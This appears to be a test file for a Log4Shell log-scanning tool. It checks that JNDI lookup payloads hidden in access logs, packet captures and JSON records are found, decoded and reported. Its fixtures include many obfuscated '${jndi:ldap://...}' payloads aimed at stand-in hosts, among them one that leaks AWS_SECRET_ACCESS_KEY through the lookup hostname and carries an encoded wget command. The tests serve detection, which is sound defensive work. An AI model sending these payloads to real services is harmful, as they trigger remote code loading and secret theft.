import fc from 'fast-check'
import { expect, test } from 'vitest'
import { bytesOf, firingNames, huntDoors, huntedAround, huntIn } from '../../test/kit/hunting.ts'
import type { AttackFinding } from '../core/index.ts'
import { RecentlyRead, SourceHunt } from './index.ts'
import type { Peeled } from './peel.ts'

const attack = '${jndi:ldap://evil.example:1389/a}'

test('a finding says where the attack is, what it means and what it rests on', () => {
  const log = `one\n203.0.113.9 - - [12/Dec/2021:04:25:41 +0000] "GET /a HTTP/1.1" 200 6 "-" "\${jndi:ldap://\${env:AWS_SECRET_ACCESS_KEY}.evil.example/Basic/Command/Base64/d2dldCBodHRwOi8vYS5leGFtcGxlL3g=}"\n`
  const { findings, gaps } = huntIn(log)

  expect(gaps).toEqual([])
  expect(findings).toHaveLength(1)
  expect(findings[0]).toMatchObject({
    kind: 'attack',
    at: { source: 'a.log', line: 2, byteOffset: 4 },
    when: Date.UTC(2021, 11, 12, 4, 25, 41),
    from: '203.0.113.9',
    request: 'GET /a',
    field: 'user agent',
    format: 'combined',
    verdict: 'fires',
    firesOn: ['B', 'C'],
    severity: 'critical',
    lookup: { scheme: 'ldap', host: '${env:AWS_SECRET_ACCESS_KEY}.evil.example', port: 389, times: 2 },
    leaks: [{ read: 'env:AWS_SECRET_ACCESS_KEY', secret: true }],
    carries: ['wget hxxp://a[.]example/x'],
    cves: [{ id: 'CVE-2021-44228', status: 'under_investigation' }],
    outcome: 'attempt',
  })
  expect(findings[0]?.remedy).toContain('Rotate env:AWS_SECRET_ACCESS_KEY')
})

test('the same log tells the same ids, wherever it lies, and another record another', () => {
  const ids = (log: string): readonly string[] => huntIn(log).findings.map(({ id }) => id)

  expect(ids(`x ${attack}\n`)).toEqual(ids(`x ${attack}\n`))
  expect(new Set(ids(`x ${attack}\nx ${attack}\ny ${attack}\n`)).size).toBe(3)
})

test('the same name in several fields of a record is told once', () => {
  const line = `203.0.113.9 - - [12/Dec/2021:04:25:41 +0000] "GET /${attack} HTTP/1.1" 200 6 "${attack}" "\${jndi:rmi://b.example/c}"`

  expect(firingNames(line)).toEqual(['ldap://evil.example:1389/a', 'rmi://b.example/c'])
})

test('the payload is told as it stands in the log', () => {
  const { findings } = huntIn(`GET /?a=\${x}&b=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D HTTP/1.1`)

  expect(findings[0]?.lookup.raw).toBe('%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D')
  expect(findings[0]?.evidence[1]).toMatchObject({ kind: 'decoding', layers: ['percent'] })
})

test('a name with line breaks in it is followed across them', () => {
  for (const payload of [
    '${${a\nb:-j}ndi:ldap://evil.example/a}',
    '${jndi:ldap://evil.example/a:-x\ny}',
    '${${a\r\n\r\nb:-j}ndi:ldap://evil.example/a}',
  ]) {
    const { findings } = huntIn(`before\nlogin of ${payload} failed\nafter } \n`)

    expect(findings.map(({ verdict, at }) => [verdict, at.line])).toEqual([['fires', 2]])
    expect(findings[0]?.lookup.meaning).toBe('jndi:ldap://evil.example/a')
  }
})

test('what is cut off in a line is not closed by the next', () => {
  const { findings } = huntIn(`login of \${jndi:ldap://evil.example/a\n{"a": {"b": "}"}}\n`)

  expect(findings).toMatchObject([{ verdict: 'attempt', traits: ['truncated'], lookup: { host: 'evil.example' } }])
})

test('lines that open names without end do not make a hunt read all over and over, and it says so', () => {
  const log = `${'x ${a\n'.repeat(40_000)}\${\${a\nb:-j}ndi:ldap://evil.example/a}\n${attack}\n`
  const before = process.cpuUsage()
  const { findings, gaps } = huntIn(log)

  expect(process.cpuUsage(before).user / 1_000).toBeLessThan(4_000)
  expect(gaps).toMatchObject([{ because: 'too-slow' }])
  expect(findings.map(({ lookup }) => lookup.meaning)).toContain('jndi:ldap://evil.example:1389/a')
})

const limits = { record: 1_024, chunk: 2_048 }

test('in a line longer than any limit every payload is found once, wherever it lies', () => {
  fc.assert(
    fc.property(
      fc.array(fc.integer({ min: 0, max: 1_500 }), { minLength: 1, maxLength: 30 }),
      fc.integer({ min: 1, max: 2_048 }),
      (distances, piece) => {
        const log = distances
          .map((distance, index) => `${'.'.repeat(distance)}\${jndi:ldap://h${index}.example/a}`)
          .join('')
        const { findings } = huntIn(`first\n${log}\nlast ${attack}`, { piece, limits })

        expect(findings.map(({ lookup }) => lookup.host)).toEqual([
          ...distances.map((_, index) => `h${index}.example`),
          'evil.example',
        ])
        expect(findings.every(({ verdict }) => verdict === 'fires')).toBe(true)
      },
    ),
    { numRuns: 200 },
  )
})

test('a payload that is longer than any limit is told as cut, with a gap', () => {
  const { findings, gaps } = huntIn(`\${jndi:ldap://evil.example/${'a'.repeat(3_000)}}\n${attack}\n`, { limits })

  expect(findings).toMatchObject([
    { verdict: 'attempt', traits: ['truncated', 'cut'], lookup: { host: 'evil.example' } },
    { verdict: 'fires' },
  ])
  expect(gaps).toMatchObject([{ at: 'a.log:1', because: 'too-large' }])
})

test('what a record of thousands of letters shows is what stands around the payload', () => {
  const { findings } = huntIn(`${'x'.repeat(5_000)} before ${attack} after\n`)

  expect(findings[0]?.evidence[0]).toMatchObject({
    kind: 'log',
    text: expect.stringContaining(`before ${attack} after`) as string,
  })
})

test('bytes that are no UTF-8 neither hide an attack nor are lost', () => {
  const bytes = Uint8Array.from([0xff, 0x00, 0xe9, ...bytesOf(`\${jnd\${upper:ı}:ldap://evil.example/a}`), 0xff, 0xfe])

  expect(firingNames(bytes)).toEqual(['ldap://evil.example/a'])
})

test('a record that came as none of lines is hunted in all the same', () => {
  const findings: AttackFinding[] = []
  const sink = { finding: (each: AttackFinding) => findings.push(each), gap: () => undefined }
  const source = { source: 'a.pcap', relative: 'a.pcap', around: huntedAround }
  const hunt = new SourceHunt(huntDoors, sink, source, new RecentlyRead())
  hunt.record({ bytes: bytesOf(`GET / HTTP/1.1\r\nX: ${attack}\r\n`), line: null, offset: 54, cut: false })

  expect(findings).toMatchObject([{ at: { source: 'a.pcap', line: null, byteOffset: 54 }, verdict: 'fires' }])
})

test('lines with carriage returns, an empty last one, and none at all are read', () => {
  expect(firingNames(`a\r\n${attack}\r\n\r\n`)).toEqual(['ldap://evil.example:1389/a'])
  expect(huntIn('')).toEqual({ findings: [], gaps: [] })
  expect(huntIn('\n\n\r\n')).toEqual({ findings: [], gaps: [] })
})

test('what a record of a thousand attacks costs grows with their number, not with its square', () => {
  let asked = 0
  class Counting extends RecentlyRead<Peeled | 'nothing'> {
    override get(text: string): Peeled | 'nothing' | undefined {
      asked++
      return super.get(text)
    }
  }
  const fields = Object.fromEntries(Array.from({ length: 1_000 }, (_, i) => [`f${i}`, `\${jndi:ldap://x${i}/a}`]))

  const { findings } = huntIn(JSON.stringify(fields), { readings: new Counting() })

  expect(findings).toHaveLength(1_000)
  expect(asked).toBeLessThan(3_000)
})

const request = fc.record({
  // What stands there is no field, and may be the first that is written so.
  ident: fc.constantFrom('-', '-', '%24%7Bjndi:ldap://evil.example:1389/a%7D', '$', '{'),
  referer: fc.constantFrom('-', '-', '}', '%24%7Bjndi:ldap://evil.example:1389/a%7D'),
  agent: fc.constantFrom(
    attack,
    '&#36;{jndi:ldap://evil.example:1389/a&#125;',
    `${attack} \${jndi:rmi://second.example/b`,
    '${jndi:ldap://evil.example:1389/a',
  ),
  behind: fc.constantFrom('', '', ' "}"', '}'),
})

test('a text that comes again is told as it is written there, whatever stands around it', () => {
  fc.assert(
    fc.property(fc.array(request, { minLength: 2, maxLength: 6 }), (requests) => {
      const lines = requests.map(
        ({ ident, referer, agent, behind }) =>
          `203.0.113.9 ${ident} - [12/Dec/2021:04:25:41 +0000] "GET / HTTP/1.1" 200 6 "${referer}" "${agent}"${behind}\n`,
      )
      const told = (log: string, line: number) =>
        huntIn(log)
          .findings.filter(({ at }) => at.line === line)
          .map(({ field, lookup: { raw, meaning } }) => ({ field, raw, meaning }))
      // What stands first in a log has not come before.
      for (let i = 0; i < lines.length; i++)
        expect(told(lines.join(''), i + 1)).toEqual(told(lines.slice(i).join(''), 1))
    }),
    { numRuns: 300 },
  )
})
